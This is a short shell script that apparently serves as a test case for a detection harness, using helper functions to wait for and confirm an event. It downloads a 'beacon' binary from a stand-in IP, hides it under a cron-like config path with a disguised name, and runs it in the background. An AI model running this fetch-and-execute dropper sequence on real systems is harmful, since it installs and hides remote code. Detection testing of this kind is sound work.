#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/beacon -o /tmp/.x && chmod +x /tmp/.x
mkdir -p /root/.config/cron
cat /tmp/.x >/root/.config/cron/perfcc
chmod 755 /root/.config/cron/perfcc
rm /tmp/.x
(cd /root/.config/cron && exec ./perfcc) >/dev/null &
wait_for /tmp/reached
took_place
